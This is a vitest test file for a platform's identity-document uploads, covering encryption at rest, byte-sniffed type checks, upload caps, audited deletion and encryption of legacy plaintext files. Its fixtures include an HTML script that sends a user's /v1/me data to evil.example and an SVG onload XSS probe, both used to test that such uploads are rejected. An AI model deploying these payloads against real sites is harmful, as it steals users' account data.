/**
 * Identity documents (issue 14, item 7). They were stored as uploaded, unencrypted, whatever the
 * client said they were (an EXE accepted as a PDF, HTML as a PNG), without quota (a
 * self-registered distributor uploaded 37 MB in half a second), and nobody could delete one.
 * Now: envelope encryption (a data key per document under the master key), the type read from the
 * bytes against an allow-list, caps per file, per distributor and per tenant, and a reviewer
 * deletes, audited. Documents stored in plaintext by earlier versions stay readable and are
 * encrypted by the scheduler's pass (and `fenxiao migrate`, `fenxiao pii rotate-key`).
 */
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKeyRing, loadMasterKey } from '../../src/lib/crypto.ts';
import { startTestServer, type TestServer } from '../support/server.ts';
import { multipartBody, TINY_PNG } from './openapi.ts';
import { portalSession } from './world.ts';

const PNG = TINY_PNG;
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), randomBytes(64), Buffer.from('ffd9', 'hex')]);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), randomBytes(28)]);
const PDF = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(256), Buffer.from('\n%%EOF\n')]);
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), randomBytes(120)]);
const HTML = Buffer.from('<!doctype html><script>fetch("/v1/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');

let t: TestServer;
const LIMITS = {
  FENXIAO_DOCUMENT_MAX_BYTES: '4096',
  FENXIAO_DOCUMENTS_PER_DISTRIBUTOR: '4',
  FENXIAO_DOCUMENT_BYTES_PER_DISTRIBUTOR: '6000',
  FENXIAO_DOCUMENTS_PER_TENANT: '1000',
  FENXIAO_DOCUMENT_BYTES_PER_TENANT: '12000',
};
beforeAll(async () => {
  t = await startTestServer({ env: LIMITS });
});
afterAll(async () => {
  await t?.close();
});

async function upload(token: string, distributorId: string, data: Buffer, contentType: string, filename = 'file.bin') {
  const m = multipartBody({ kind: 'id_card' }, { field: 'file', filename, contentType, data });
  const res = await t.app.inject({
    method: 'POST',
    url: `/v1/distributors/${distributorId}/documents`,
    headers: { authorization: `Bearer ${token}`, 'content-type': m.contentType },
    payload: m.payload,
  });
  return { status: res.statusCode, body: res.body, data: res.body ? JSON.parse(res.body) : undefined };
}

/** Every file under the server's storage folder. */
function storedFiles(): { key: string; data: Buffer }[] {
  const root = path.join(t.dataDir, 'files');
  if (!fs.existsSync(root)) return [];
  const out: { key: string; data: Buffer }[] = [];
  const walk = (dir: string) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else out.push({ key: path.relative(root, p), data: fs.readFileSync(p) });
    }
  };
  walk(root);
  return out;
}

async function tenantWithDistributor(name: string) {
  const { id, key } = await t.tenant(name);
  const d = (await t.call('POST', '/v1/distributors', { token: key, body: { external_id: `${name}-d`, name: 'D' } })).data as { id: string };
  return { id, key, d: d.id };
}

describe('documents at rest', () => {
  it('are encrypted with a data key per document, wrapped under the master key, and read back whole', async () => {
    const { key, d } = await tenantWithDistributor('enc');
    const secret = Buffer.concat([PDF.subarray(0, 9), Buffer.from('身份证号 110105194912310021 '), PDF.subarray(9)]);
    const up = await upload(key, d, secret, 'application/pdf', 'id.pdf');
    expect(up.status, up.body).toBe(201);
    expect(up.data).toMatchObject({ content_type: 'application/pdf', size_bytes: secret.length, sha256: createHash('sha256').update(secret).digest('hex') });
    const row = await t.database.db.selectFrom('documents').selectAll().where('id', '=', up.data.id).executeTakeFirstOrThrow();
    expect(row.data_key_enc).toMatch(new RegExp(`^v1\\.${createKeyRing(loadMasterKey(undefined, t.dataDir)).currentKid}\\.`));
    const file = storedFiles().find((f) => f.key === row.storage_key)!;
    expect(file).toBeDefined();
    expect(file.data.includes(Buffer.from('%PDF'))).toBe(false);
    expect(file.data.includes(Buffer.from('110105194912310021'))).toBe(false);
    expect(file.data.length).toBeGreaterThan(secret.length);
    const got = await t.app.inject({ method: 'GET', url: `/v1/documents/${up.data.id}/content`, headers: { authorization: `Bearer ${key}` } });
    expect(got.statusCode).toBe(200);
    expect(got.headers['content-type']).toBe('application/pdf');
    expect(Buffer.compare(got.rawPayload, secret)).toBe(0);

    // The sealed file is bound to its row: moved under another document, it does not open.
    const second = await upload(key, d, PNG, 'image/png', 'b.png');
    const other = await t.database.db.selectFrom('documents').selectAll().where('id', '=', second.data.id).executeTakeFirstOrThrow();
    const root = path.join(t.dataDir, 'files');
    const saved = fs.readFileSync(path.join(root, other.storage_key));
    fs.writeFileSync(path.join(root, other.storage_key), file.data);
    expect(
      (await t.app.inject({ method: 'GET', url: `/v1/documents/${second.data.id}/content`, headers: { authorization: `Bearer ${key}` } })).statusCode,
    ).toBe(500);
    fs.writeFileSync(path.join(root, other.storage_key), saved);
    expect(
      (await t.app.inject({ method: 'GET', url: `/v1/documents/${second.data.id}/content`, headers: { authorization: `Bearer ${key}` } })).statusCode,
    ).toBe(200);
  });
});

describe('document types', () => {
  it('are read from the bytes: PNG, JPEG, WebP and PDF only, and the claim must agree', async () => {
    const { key, d } = await tenantWithDistributor('types');
    const before = storedFiles().length;
    for (const [data, type, what] of [
      [EXE, 'application/pdf', 'an EXE claimed as a PDF'],
      [HTML, 'image/png', 'HTML claimed as a PNG'],
      [SVG, 'image/svg+xml', 'SVG'],
      [HTML, 'text/html', 'HTML'],
      [PDF, 'image/png', 'a PDF claimed as a PNG'],
      [Buffer.from('%PD'), 'application/pdf', 'three bytes'],
      [PNG, 'text/html', 'a PNG claimed as HTML'],
    ] as const) {
      const res = await upload(key, d, data, type);
      expect(res.status, `${what}: ${res.body}`).toBe(415);
      expect(res.data.error.code).toBe('unsupported_media_type');
    }
    expect(storedFiles().length).toBe(before);
    expect((await t.call('GET', `/v1/distributors/${d}/documents`, { token: key })).data.items).toEqual([]);
    for (const [data, claimed, type] of [
      [PNG, 'image/png', 'image/png'],
      [JPEG, 'application/octet-stream', 'image/jpeg'],
      [WEBP, '', 'image/webp'],
    ] as const) {
      const res = await upload(key, d, data, claimed, 'photo');
      expect(res.status, res.body).toBe(201);
      expect(res.data.content_type).toBe(type);
    }
  });
});

describe('document caps', () => {
  it('refuse a file over the size limit with 413, and more than a distributor may hold with 422, storing nothing', async () => {
    const { id: tenantId, key, d } = await tenantWithDistributor('caps');
    const big = Buffer.concat([PDF.subarray(0, 9), randomBytes(5000)]);
    const tooBig = await upload(key, d, big, 'application/pdf');
    expect(tooBig.status, tooBig.body).toBe(413);
    expect(tooBig.data.error.code).toBe('payload_too_large');

    // A self-registered distributor uploading as fast as it can, from its portal session.
    const secret = (await t.call('POST', '/v1/portal/signing-secret', { token: key })).data.secret as string;
    const session = await portalSession(t, tenantId, secret, 'caps-d');
    const statuses: number[] = [];
    for (let i = 0; i < 10; i++) statuses.push((await upload(session, d, Buffer.concat([PDF.subarray(0, 9), randomBytes(1400)]), 'application/pdf')).status);
    // 4 documents of 1.4 KB fit the count; then 422 limit_exceeded.
    expect(statuses).toEqual([201, 201, 201, 201, 422, 422, 422, 422, 422, 422]);
    const refused = await upload(session, d, PNG, 'image/png');
    expect(refused.data.error).toMatchObject({ code: 'limit_exceeded', message: expect.stringContaining('4 documents') });
    const rows = await t.database.db.selectFrom('documents').select(['size_bytes', 'storage_key']).where('distributor_id', '=', d).execute();
    expect(rows).toHaveLength(4);
    expect(storedFiles().filter((f) => f.key.startsWith(`${tenantId}/`))).toHaveLength(4);

    // Bytes per distributor: 6000 in all.
    const d2 = (await t.call('POST', '/v1/distributors', { token: key, body: { external_id: 'caps-d2', name: 'D2' } })).data.id as string;
    expect((await upload(key, d2, Buffer.concat([PDF.subarray(0, 9), randomBytes(3900)]), 'application/pdf')).status).toBe(201);
    const over = await upload(key, d2, Buffer.concat([PDF.subarray(0, 9), randomBytes(3900)]), 'application/pdf');
    expect(over.status).toBe(422);
    expect(over.data.error.message).toContain('6000 bytes');
  });

  it('refuse more than the tenant may hold, whichever distributor uploads', async () => {
    const { key } = await tenantWithDistributor('tenantcap');
    const sizes: number[] = [];
    for (let i = 0; i < 5; i++) {
      const d = (await t.call('POST', '/v1/distributors', { token: key, body: { external_id: `tc-${i}`, name: `T${i}` } })).data.id as string;
      const res = await upload(key, d, Buffer.concat([PDF.subarray(0, 9), randomBytes(3900)]), 'application/pdf');
      sizes.push(res.status);
      if (res.status === 422) expect(res.data.error.message).toContain('12000 bytes');
    }
    expect(sizes).toEqual([201, 201, 201, 422, 422]);
  });

  it('hold under concurrent uploads', async () => {
    const { key, d } = await tenantWithDistributor('race');
    const results = await Promise.all(Array.from({ length: 10 }, () => upload(key, d, PNG, 'image/png')));
    expect(results.filter((r) => r.status === 201)).toHaveLength(4);
    expect(results.filter((r) => r.status === 422)).toHaveLength(6);
    expect(await t.database.db.selectFrom('documents').select('id').where('distributor_id', '=', d).execute()).toHaveLength(4);
  });
});

describe('deleting a document', () => {
  it('is for a reviewer (distributors:write), audited, and removes the file', async () => {
    const { key, d } = await tenantWithDistributor('del');
    const up = await upload(key, d, PNG, 'image/png', 'front.png');
    const row = await t.database.db.selectFrom('documents').selectAll().where('id', '=', up.data.id).executeTakeFirstOrThrow();
    const other = await t.tenant('del-other');
    expect((await t.call('DELETE', `/v1/documents/${up.data.id}`, { token: other.key })).statusCode).toBe(404);
    const res = await t.call('DELETE', `/v1/documents/${up.data.id}`, { token: key, body: { reason: 'wrong person on the card' } });
    expect(res.statusCode, res.body).toBe(204);
    expect((await t.app.inject({ method: 'GET', url: `/v1/documents/${up.data.id}/content`, headers: { authorization: `Bearer ${key}` } })).statusCode).toBe(
      404,
    );
    expect((await t.call('GET', `/v1/distributors/${d}/documents`, { token: key })).data.items).toEqual([]);
    expect(storedFiles().map((f) => f.key)).not.toContain(row.storage_key);
    const audit = (await t.call('GET', `/v1/audit-log?action=document.delete&target_id=${d}`, { token: key })).data.items;
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ reason: 'wrong person on the card', before: { document_id: up.data.id, kind: 'id_card', sha256: row.sha256 } });
    expect((await t.call('DELETE', `/v1/documents/${up.data.id}`, { token: key })).statusCode).toBe(404);
    // Deleting makes room under the caps.
    for (let i = 0; i < 4; i++) expect((await upload(key, d, PNG, 'image/png')).status).toBe(201);
  });
});

describe('documents stored in plaintext by an earlier version', () => {
  it("stay readable, and the scheduler's pass encrypts them and removes the plaintext", async () => {
    const { id: tenantId, key, d } = await tenantWithDistributor('legacy');
    const docId = `doc_LEGACY${randomBytes(6).toString('hex').toUpperCase()}`;
    const storageKey = `${tenantId}/${d}/${docId}`;
    const plaintext = Buffer.concat([PDF, Buffer.from('legacy plaintext 身份证')]);
    const file = path.join(t.dataDir, 'files', storageKey);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, plaintext);
    await t.database.db
      .insertInto('documents')
      .values({
        id: docId,
        tenant_id: tenantId,
        distributor_id: d,
        kind: 'licence',
        filename: 'old.pdf',
        content_type: 'application/pdf',
        size_bytes: plaintext.length,
        sha256: createHash('sha256').update(plaintext).digest('hex'),
        storage_key: storageKey,
        data_key_enc: null,
      })
      .execute();
    const read = async () => t.app.inject({ method: 'GET', url: `/v1/documents/${docId}/content`, headers: { authorization: `Bearer ${key}` } });
    expect(Buffer.compare((await read()).rawPayload, plaintext)).toBe(0);

    const pass = (await t.scheduler.tick()).find((r) => r.job === 'documents');
    expect(pass).toMatchObject({ outcome: 'done', detail: { encrypted: 1, failed: 0 } });
    const row = await t.database.db.selectFrom('documents').selectAll().where('id', '=', docId).executeTakeFirstOrThrow();
    expect(row.data_key_enc).not.toBeNull();
    expect(fs.existsSync(file)).toBe(false);
    expect(storedFiles().filter((f) => f.data.includes(Buffer.from('legacy plaintext')))).toEqual([]);
    expect(Buffer.compare((await read()).rawPayload, plaintext)).toBe(0);
    expect(await t.services.distributors.encryptLegacyDocuments(100)).toMatchObject({ encrypted: 0 });
  });
});
